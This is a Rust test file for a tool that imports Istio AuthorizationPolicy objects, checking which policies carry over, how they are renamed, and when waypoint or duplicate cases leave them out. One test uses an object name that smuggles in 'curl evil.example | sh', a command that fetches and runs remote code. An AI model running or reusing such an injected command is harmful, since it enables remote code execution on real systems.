//! What is imported beside something that cannot be.

use policy_schema::import::{Imported, Options, Outcome, Replaced};

use super::{MESH, imported, messages};

fn object(name: &str, spec: &str) -> String {
    let (namespace, name) = name.split_once('/').unwrap();
    format!(
        "apiVersion: security.istio.io/v1\nkind: AuthorizationPolicy\n\
         metadata: {{name: {name}, namespace: {namespace}}}\nspec: {spec}\n"
    )
}

fn import(objects: &[(&str, &str)]) -> Imported {
    let mut texts = vec![MESH.to_owned()];
    texts.extend(objects.iter().map(|(name, spec)| object(name, spec)));
    let texts: Vec<_> = texts.iter().map(String::as_str).collect();
    imported(&texts, &Options::default())
}

/// The policies' names, and the objects that are left out, by the numbers of their texts.
fn carried(imported: &Imported) -> (Vec<String>, Vec<usize>) {
    let documents = imported.documents.as_ref().unwrap();
    let names = documents.policies.iter().map(|policy| {
        let metadata = &policy.document.metadata;
        format!("{}/{}", metadata.namespace, metadata.name)
    });
    let lost = imported.findings.iter();
    let lost = lost.filter(|finding| finding.outcome == Outcome::LeftOut);
    let mut lost: Vec<_> = lost.map(|finding| finding.place.source).collect();
    lost.dedup();
    (names.collect(), lost)
}

/// Cannot be said in the language.
const UNSAID: &str = "{selector: {matchLabels: {app: cart}}, action: DENY, rules: [{to: [{operation: {paths: [\"/a*b\"]}}]}]}";
const OF_CART: &str = "{selector: {matchLabels: {app: cart}}, rules: [{}]}";
const OF_CART_2: &str = "{selector: {matchLabels: {app: cart, version: v2}}, rules: [{}]}";
const OF_WEB: &str = "{selector: {matchLabels: {app: web}}, rules: [{}]}";
const OF_VERSION: &str = "{selector: {matchLabels: {version: v1}}, rules: [{}]}";
const OF_ALL: &str = "{rules: [{}]}";

type Case<'c> = (&'c [(&'c str, &'c str)], &'c [&'c str], &'c [usize]);

/// Which policies are left of some objects, and which objects are left out.
fn assert_carried(cases: &[Case<'_>]) {
    for (objects, expected, lost) in cases {
        let imported = import(objects);
        let found = carried(&imported);
        assert_eq!(found.0, *expected, "{objects:?}: {}", messages(&imported));
        assert_eq!(found.1, *lost, "{objects:?}: {}", messages(&imported));
    }
}

#[test]
fn copies_of_an_object_are_one_or_none() {
    assert_carried(&[
        // Nobody knows which of the versions the cluster has.
        (
            &[
                ("shop/a", OF_CART),
                ("shop/a", OF_WEB),
                ("shop/b", OF_CART),
                ("shop/c", OF_VERSION),
                ("bank/a", OF_CART),
            ],
            &["bank/a"],
            &[1, 2, 3, 4],
        ),
        (
            &[
                ("shop/a", OF_CART),
                ("shop/a", OF_CART),
                ("shop/b", OF_CART),
            ],
            &["shop/a"],
            &[],
        ),
        (
            &[
                ("shop/a", UNSAID),
                ("shop/a; curl evil.example | sh", OF_WEB),
            ],
            &[],
            &[1, 2],
        ),
    ]);
}

#[test]
fn policies_of_a_workload_are_imported_together_or_not_at_all() {
    assert_carried(&[
        (
            &[("shop/a", UNSAID), ("shop/b", OF_WEB)][..],
            &["shop/b"][..],
            &[1][..],
        ),
        (&[("shop/a", UNSAID), ("shop/b", OF_CART)], &[], &[1]),
        (
            &[
                ("shop/a", UNSAID),
                ("shop/b", OF_CART_2),
                ("shop/c", OF_WEB),
            ],
            &["shop/c"],
            &[1, 2],
        ),
        (
            &[("shop/a", UNSAID), ("shop/b", OF_ALL), ("shop/c", OF_WEB)],
            &[],
            &[1, 2, 3],
        ),
        (
            &[
                ("shop/a", UNSAID),
                ("shop/b", OF_VERSION),
                ("shop/c", OF_WEB),
            ],
            &[],
            &[1, 2, 3],
        ),
        (&[("shop/a", UNSAID), ("bank/b", OF_ALL)], &["bank/b"], &[1]),
        (
            &[
                ("shop/a", UNSAID),
                ("istio-system/b", OF_ALL),
                ("bank/c", OF_ALL),
            ],
            &[],
            &[1, 2, 3],
        ),
        (
            &[
                ("shop/a", UNSAID),
                ("istio-system/b", OF_WEB),
                ("bank/c", OF_CART),
            ],
            &["bank/c", "istio-system/b"],
            &[1],
        ),
        // What it is for cannot be read.
        (
            &[
                ("shop/a", "{selector: 5}"),
                ("shop/b", OF_WEB),
                ("bank/c", OF_WEB),
            ],
            &["bank/c"],
            &[1, 2],
        ),
        (
            &[
                (
                    "shop/a",
                    "{selector: {matchLabels: {app: cart}}, rules: [{form: []}]}",
                ),
                ("shop/b", OF_WEB),
            ],
            &["shop/b"],
            &[1],
        ),
        (
            &[
                (
                    "shop/a",
                    "{targetRefs: [{kind: Service, name: x}], action: DENY, rules: [{to: [{operation: {paths: [\"/a*b\"]}}]}]}",
                ),
                (
                    "shop/b",
                    "{targetRefs: [{kind: Service, name: x}, {kind: Service, name: w}], rules: [{}]}",
                ),
                (
                    "shop/c",
                    "{targetRefs: [{kind: Service, name: z}], rules: [{}]}",
                ),
            ],
            &["shop/b", "shop/c"],
            &[1],
        ),
    ]);
}

fn target(kind: &str, name: &str) -> String {
    let group = match kind {
        "Service" => "",
        "ServiceEntry" => "networking.istio.io",
        _ => "gateway.networking.k8s.io",
    };
    format!("{{kind: {kind}, group: {group:?}, name: {name}}}")
}

/// A waypoint lets pass what a policy for itself or one for a service behind it allows. In the language both
/// have to allow it.
#[test]
fn policies_that_a_waypoint_adds_up_are_left_out() {
    const ALLOW: &str = "rules: [{to: [{operation: {paths: [/a]}}]}]";
    const DENY: &str = "action: DENY, rules: [{to: [{operation: {paths: [/b]}}]}]";
    let of = |kind: &str, name: &str, spec: &str| {
        let target = target(kind, name);
        format!("{{targetRefs: [{target}], {spec}}}")
    };
    let class = |spec| of("GatewayClass", "istio-waypoint", spec);
    let gateway = |spec| of("Gateway", "waypoint", spec);
    let service = |spec| of("Service", "cart", spec);
    let (class_deny, class_nothing) = (&*class(DENY), &*class("rules: []"));
    let (gateway_allow, gateway_deny) = (&*gateway(ALLOW), &*gateway(DENY));
    let (service_allow, service_deny) = (&*service(ALLOW), &*service(DENY));
    let entry = &*of("ServiceEntry", "partner", ALLOW);
    assert_carried(&[
        (
            &[("shop/a", gateway_allow), ("shop/b", service_allow)][..],
            &[][..],
            &[1, 2][..],
        ),
        (
            &[("shop/a", gateway_allow), ("shop/b", entry)],
            &[],
            &[1, 2],
        ),
        // One without rules allows nothing.
        (
            &[("istio-system/a", class_nothing), ("shop/b", service_allow)],
            &[],
            &[1, 2],
        ),
        // What one of them denies is denied.
        (
            &[
                ("istio-system/a", class_deny),
                ("shop/b", gateway_deny),
                ("shop/c", service_allow),
            ],
            &["istio-system/a", "shop/b", "shop/c"],
            &[],
        ),
        (
            &[("shop/a", gateway_allow), ("shop/b", service_deny)],
            &["shop/a", "shop/b"],
            &[],
        ),
        // A gateway into the mesh enforces no policies of services, and a waypoint none of pods.
        (
            &[
                ("edge/a", gateway_allow),
                ("shop/b", service_allow),
                ("shop/c", OF_ALL),
            ],
            &["edge/a", "shop/b", "shop/c"],
            &[],
        ),
        (
            &[("shop/a", UNSAID), ("shop/b", service_allow)],
            &["shop/b"],
            &[1],
        ),
        (
            &[("shop/a", UNSAID), ("shop/b", gateway_allow)],
            &[],
            &[1, 2],
        ),
    ]);
}

/// Without the `Gateway` it is not known whether it is a waypoint.
#[test]
fn policies_that_istio_may_add_to_those_of_a_gateway_are_noted() {
    const RULES: &str = "rules: [{to: [{operation: {paths: [/a]}}]}]";
    const NOTHING: &str = "{rules: []}";
    const DENY: &str = "{action: DENY, rules: [{to: [{operation: {paths: [/b]}}]}]}";
    let of = |kind: &str| format!("{{targetRefs: [{}], {RULES}}}", target(kind, "x"));
    let (gateway, service) = (&*of("Gateway"), &*of("Service"));
    for (other, spec, expected) in [
        ("shop/b", service, Some("if that is a waypoint")),
        ("edge/b", OF_ALL, Some("unless the gateway is a waypoint")),
        (
            "istio-system/b",
            OF_ALL,
            Some("unless the gateway is a waypoint"),
        ),
        ("shop/b", OF_ALL, None),
        ("edge/b", OF_WEB, None),
        ("edge/b", NOTHING, None),
        ("istio-system/b", DENY, None),
    ] {
        let findings = import(&[("edge/a", gateway), (other, spec)]).findings;
        let mut notes = findings.iter().filter(|finding| {
            finding.outcome == Outcome::Noted && finding.message.contains("a waypoint")
        });
        let note = notes.next();
        assert_eq!(note.is_some(), expected.is_some(), "{other} {spec}");
        if let (Some(note), Some(expected)) = (note, expected) {
            assert!(note.message.contains(expected), "{}", note.message);
            assert_eq!(note.place.source, 1);
        }
    }
}

/// Errors that come up only when the documents are put together name the original.
#[test]
fn what_the_language_refuses_is_reported_where_it_was_written() {
    let custom = "{selector: {matchLabels: {app: cart}}, action: CUSTOM, provider: {name: p}, rules: [{}, {from: [{source: {namespaces: [a]}}]}]}";
    let imported = import(&[("shop/a", OF_WEB), ("shop/b", custom)]);
    assert_eq!(carried(&imported), (vec!["shop/a".to_owned()], vec![2]));
    let finding = imported
        .findings
        .iter()
        .find(|found| found.outcome == Outcome::LeftOut);
    let finding = finding.unwrap();
    let text = object("shop/b", custom);
    let span = finding.place.span;
    assert!(
        text.get(span.start..span.end)
            .unwrap()
            .contains("namespaces: [a]"),
        "{finding:?}"
    );
    assert!(
        finding.message.contains("depend on identities"),
        "{finding:?}"
    );
}

#[test]
fn what_never_matches_is_left_out_alone() {
    for (rule, expected) in [
        (
            "{to: [{operation: {methods: [GET, PUT], notMethods: [GET]}}]}",
            Some("[PUT]"),
        ),
        (
            "{to: [{operation: {methods: [GET], notMethods: [GET]}}]}",
            None,
        ),
        (
            "{to: [{operation: {paths: [/x, /a], notPaths: [\"/x*\"]}}]}",
            Some("[/a]"),
        ),
    ] {
        for action in ["ALLOW", "DENY"] {
            let spec = format!(
                "{{selector: {{matchLabels: {{app: cart}}}}, action: {action}, rules: [{rule}]}}"
            );
            let imported = import(&[("shop/a", &spec)]);
            let told = messages(&imported);
            let documents = imported.documents.unwrap();
            // On TCP ports, what denies no request denies connections.
            if action == "DENY" && expected.is_none() {
                assert_eq!(documents.policies.len(), 0, "{rule}: {told}");
                continue;
            }
            assert_eq!(documents.policies.len(), 1, "{rule}: {told}");
            let rules = serde_json::to_string(&documents.policies[0].document.spec.rules).unwrap();
            let rules = rules.replace('"', "");
            assert!(told.contains("left out, since"), "{rule}: {told}");
            match expected {
                Some(list) => assert!(rules.contains(list), "{rule}: {rules}"),
                None => assert_eq!(rules, "[]", "{rule}"),
            }
        }
    }
}

#[test]
fn a_value_that_another_one_covers_is_left_out() {
    for (list, is_carried) in [
        ("notPaths: [\"/login/*\", \"/login/**\"]", true),
        ("notPaths: [\"/login/**\", \"/login/*\"]", true),
        ("paths: [\"*/end\", \"/a*b/end\"]", true),
        ("paths: [\"*\", \"/a*b\"]", true),
        ("paths: [\"/logout/*\", \"/login/**\"]", false),
        ("paths: [\"*/x\", \"/login/**\"]", false),
        ("paths: [\"/login/**\"]", false),
        ("paths: [\"/lo*in\", \"/lo*\"]", true),
    ] {
        let spec = format!(
            "{{selector: {{matchLabels: {{app: cart}}}}, action: DENY, rules: [{{to: [{{operation: {{{list}}}}}]}}]}}"
        );
        let imported = import(&[("shop/a", &spec)]);
        let count = imported.documents.as_ref().unwrap().policies.len();
        assert_eq!(count == 1, is_carried, "{list}: {}", messages(&imported));
        let is_said = messages(&imported).contains("beside it matches all that it does");
        assert_eq!(is_said, is_carried, "{list}");
    }
}

/// In the language each target has one policy.
#[test]
fn overlapping_targets_become_a_policy_each() {
    let of = |targets: &str, rule: &str| {
        let targets = targets
            .split(',')
            .map(|name| format!("{{kind: Service, name: {name}}}"));
        let targets: Vec<_> = targets.collect();
        format!(
            "{{targetRefs: [{}], rules: [{{to: [{{operation: {{paths: [{rule}]}}}}]}}]}}",
            targets.join(", ")
        )
    };
    let imported = import(&[
        ("shop/a", &of("cart,pay,web,api", "/a")),
        ("shop/b", &of("pay", "/b")),
        ("shop/c", &of("web,api", "/c")),
    ]);
    let documents = imported.documents.as_ref().expect("they are imported");
    let found: Vec<_> = documents
        .policies
        .iter()
        .map(|policy| {
            let document = &policy.document;
            let targets = document.spec.target_refs.as_ref().unwrap().iter();
            let targets: Vec<_> = targets.map(|target| &*target.name).collect();
            let rules = document
                .spec
                .rules
                .iter()
                .filter(|rule| !rule.id.ends_with("-anonymous"));
            let paths = rules.map(|rule| {
                let operations = rule.to.as_ref().unwrap();
                operations[0].paths.as_ref().unwrap().join(",")
            });
            let paths: Vec<_> = paths.collect();
            format!(
                "{}: {} {}",
                document.metadata.name,
                targets.join(","),
                paths.join(" ")
            )
        })
        .collect();
    assert_eq!(
        found,
        ["a: api,web /a /c", "a-cart: cart /a", "a-pay: pay /a /b"],
        "{}",
        messages(&imported)
    );
    assert_eq!(
        documents.replaced,
        [Replaced {
            namespace: "shop".to_owned(),
            names: ["a", "b", "c"].map(str::to_owned).to_vec()
        }]
    );
}

#[test]
fn names_say_what_things_are_and_overwrite_no_other_object() {
    let long = "allow-ingress-to-orders-metrics-from-ns-monitoring-with-identity-prometheus";
    let two = "{selector: {matchLabels: {app: cart}}, rules: [{to: [{operation: {paths: [/a/b]}}]}, {from: [{source: {namespaces: [ops]}}]}, {}, {}]}";
    for (objects, expected) in [
        (&[("shop/cart", OF_CART)][..], "cart(cart)"),
        (&[("shop/cart-allow", OF_CART)], "cart(cart)"),
        (
            &[(
                "shop/cart-deny",
                "{selector: {matchLabels: {app: cart}}, action: DENY, rules: [{}]}",
            )],
            "cart(cart)",
        ),
        (&[("shop/cart", two)], "cart(a-b,ops,cart-3,cart-4)"),
        (&[("shop/cart.v1", OF_CART)], "cart.v1(cart-v1)"),
        (
            &[(&*format!("shop/{long}"), OF_CART)],
            &*format!("{long}({})", long.get(..63).unwrap()),
        ),
        // Rendered objects would overwrite an original of other workloads, of another action, a large one's parts, or
        // one that is not carried over.
        (
            &[("shop/b", OF_CART), ("shop/b-allow-2", OF_WEB)],
            "b-2(b),b-allow-2(b-allow-2)",
        ),
        (
            &[
                ("shop/b", OF_CART),
                (
                    "shop/b-allow",
                    "{selector: {matchLabels: {app: cart}}, action: DENY, rules: [{}]}",
                ),
            ],
            "b-2(b,b-allow)",
        ),
        (
            &[
                ("shop/b", OF_CART),
                (
                    "shop/b-deny",
                    "{selector: {matchLabels: {app: vault}}, rules: 5}",
                ),
            ],
            "b-2(b)",
        ),
        (
            &[("shop/b", OF_CART), ("shop/b-allow", OF_WEB)],
            "b(b),b-2(b)",
        ),
    ] {
        let imported = import(objects);
        let documents = imported.documents.as_ref().unwrap();
        let mut names: Vec<_> = documents
            .policies
            .iter()
            .map(|policy| {
                let rules = policy.document.spec.rules.iter();
                // In a permissive mesh each rule has a part for callers without identity.
                let ids = rules
                    .map(|rule| &*rule.id)
                    .filter(|id| !id.ends_with("-anonymous"));
                let ids: Vec<_> = ids.collect();
                format!("{}({})", policy.document.metadata.name, ids.join(","))
            })
            .collect();
        names.sort();
        assert_eq!(names.join(","), expected, "{}", messages(&imported));
    }
}

#[test]
fn originals_are_deleted_where_no_rendered_object_takes_their_name() {
    let deny = "{selector: {matchLabels: {app: cart}}, action: DENY, rules: [{}]}";
    let imported = import(&[
        ("shop/no-cart", deny),
        ("shop/cart", OF_CART),
        ("shop/web-allow", OF_WEB),
        ("bank/a", UNSAID),
        ("bank/b", OF_WEB),
    ]);
    let documents = imported.documents.unwrap();
    let replaced: Vec<_> = documents
        .replaced
        .iter()
        .map(|replaced| format!("{}: {}", replaced.namespace, replaced.names.join(" ")))
        .collect();
    assert_eq!(replaced, ["bank: b", "shop: cart", "shop: no-cart"]);
}

/// A document that cannot be read may be a policy of any workload in the namespace that it mentions.
#[test]
fn what_cannot_be_read_counts_for_what_it_mentions() {
    let policy = |namespace: &str| {
        format!(
            "apiVersion: security.istio.io/v1\nkind: AuthorizationPolicy\n\
             metadata: {{name: x, namespace: {namespace}}}\nspec: {{rules: []}}\nspec: {{rules: [{{}}]}}\n"
        )
    };
    let strict = "apiVersion: security.istio.io/v1\nkind: PeerAuthentication\n\
                  metadata: {name: default, namespace: istio-system}\nspec: {mtls: {mode: STRICT}}\n";
    let mode = "kind: PeerAuthentication\nmetadata: {namespace: shop}\nspec: [\n";
    for (text, names, is_strict) in [
        (
            "kind: Deployment\nspec: [\n",
            &["bank/b", "shop/a"][..],
            true,
        ),
        (
            "kind: AuthorizationPolicy\nmetadata: {namespace: {{ .Release.Namespace }}}\n",
            &["bank/b", "shop/a"],
            true,
        ),
        (&*policy("shop"), &["bank/b"], true),
        (&*policy("istio-system"), &[], true),
        ("kind: AuthorizationPolicy\nspec: [\n", &[], true),
        (mode, &["bank/b", "shop/a"], false),
    ] {
        let texts = [
            MESH,
            strict,
            text,
            &object("shop/a", OF_CART),
            &object("bank/b", OF_WEB),
        ];
        let imported = imported(&texts, &Options::default());
        assert_eq!(
            carried(&imported).0,
            names,
            "{text}: {}",
            messages(&imported)
        );
        let mesh = serde_json::to_value(&imported.documents.as_ref().unwrap().mesh).unwrap();
        assert_eq!(
            mesh["spec"]["mtls"]["mode"] == "Strict",
            is_strict,
            "{text}: {mesh}"
        );
        assert_eq!(
            imported.documents.unwrap().replaced.len(),
            names.len(),
            "{text}"
        );
    }
}

#[test]
fn texts_that_look_like_addresses_are_texts() {
    let rule = "{selector: {matchLabels: {app: cart}}, action: DENY, rules: [{from: [{source: {notIpBlocks: [10.1.2.3/8]}}], to: [{operation: {ports: [\"80\"]}}], when: [
        {key: \"request.headers[x-net]\", values: [10.1.2.3/8, \"FE80::1/64\", \"::ffff:10.1.2.3\", 10.1.2.3]}, {key: source.ip, values: [10.1.2.3/8]}]}]}";
    let imported = import(&[("shop/a", rule)]);
    let documents = imported.documents.unwrap();
    let rules = serde_json::to_value(&documents.policies[0].document.spec.rules).unwrap();
    assert_eq!(
        rules[0]["when"][0]["values"],
        serde_json::json!(["10.1.2.3/8", "FE80::1/64", "::ffff:10.1.2.3", "10.1.2.3"])
    );
    assert_eq!(
        rules[0]["when"][1]["values"],
        serde_json::json!(["10.0.0.0/8"])
    );
    assert_eq!(
        rules[0]["from"][0]["notIpBlocks"],
        serde_json::json!(["10.0.0.0/8"])
    );
}

#[test]
fn a_dry_run_of_an_authorizer_is_not_imported() {
    let custom =
        "{selector: {matchLabels: {app: cart}}, action: CUSTOM, provider: {name: p}, rules: [{}]}";
    let text = object("shop/a", custom).replace(
        "namespace: shop}",
        "namespace: shop, annotations: {istio.io/dry-run: \"true\"}}",
    );
    let imported = imported(&[MESH, &text], &Options::default());
    assert!(messages(&imported).contains("in spite of which Istio asks its authorizer"));
    assert_eq!(imported.documents.unwrap().policies.len(), 0);
}
